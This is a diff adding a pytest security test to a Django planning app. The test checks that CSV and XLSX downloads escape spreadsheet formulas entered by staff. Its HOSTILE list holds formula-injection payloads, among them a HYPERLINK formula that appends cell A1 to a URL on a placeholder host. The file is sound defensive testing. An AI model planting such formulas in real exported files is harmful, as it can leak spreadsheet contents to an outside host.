@@ -1,0 +1,94 @@
+"""No file the app produces holds a formula, whatever staff typed (CSV and XLSX alike)."""
+
+import csv
+import io
+from decimal import Decimal
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from indicators.models import Indicator, MeasureKind, ReportingPeriod, StrategyState
+from indicators.services import measurement_record, strategy_progress_record
+from indicators.spreadsheets import FORMULA_STARTS
+from plan.models import Strategy
+from tests.security.url_map import project_urls
+
+HOSTILE = [
+    '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+# Files that are not produced by the app: evidence is the person's own file, sent back as is.
+NOT_PRODUCED = {"indicators:evidence_download"}
+
+
+@pytest.fixture
+def hostile_data(plan_2018_2023, admin_user):
+    period = ReportingPeriod.objects.get(plan=plan_2018_2023, name="2019-2020")
+    indicators = Indicator.objects.of_plan(plan_2018_2023).order_by("result__number", "order")
+    counts = [i for i in indicators if i.kind == MeasureKind.COUNT_BY_CATEGORY][: len(HOSTILE)]
+    for indicator, text in zip(counts, HOSTILE, strict=True):
+        indicator.kind, indicator.dimension, indicator.unit = MeasureKind.COUNT, None, text
+        indicator.save()
+        measurement_record(
+            indicator=indicator,
+            period=period,
+            user=admin_user,
+            value=Decimal(3),
+            narrative=text,
+            comment=text,
+            version=0,
+        )
+    for strategy, text in zip(Strategy.objects.all(), HOSTILE, strict=False):
+        strategy_progress_record(
+            strategy=strategy,
+            period=period,
+            state=StrategyState.IN_PROGRESS,
+            note=text,
+            user=admin_user,
+        )
+    return period
+
+
+def cells_of(response):
+    body = response.getvalue()
+    if response["Content-Type"].startswith("text/csv"):
+        yield from (
+            (cell, "s")
+            for row in csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";")
+            for cell in row
+        )
+        return
+    workbook = load_workbook(io.BytesIO(body))
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                yield cell.value, cell.data_type
+
+
+def test_every_download_neutralises_formulas(admin_client, hostile_data):
+    checked = []
+    for name, route in sorted(project_urls().items()):
+        if "<" in route or name in NOT_PRODUCED:
+            continue
+        response = admin_client.get(reverse(name), {"periode": hostile_data.pk})
+        if not response.get("Content-Disposition", "").startswith("attachment"):
+            continue
+        texts = []
+        for value, data_type in cells_of(response):
+            assert data_type != "f", (name, value)
+            if isinstance(value, str):
+                assert not value.startswith(FORMULA_STARTS), (name, value)
+                texts.append(value)
+        # The hostile texts are in the file, neutralised, not dropped.
+        assert any(text.startswith("'=HYPERLINK") for text in texts), name
+        checked.append(name)
+    assert {
+        "indicators:measurement_export_csv",
+        "indicators:measurement_export_xlsx",
+        "board:board_report_xlsx",
+    } <= set(checked)
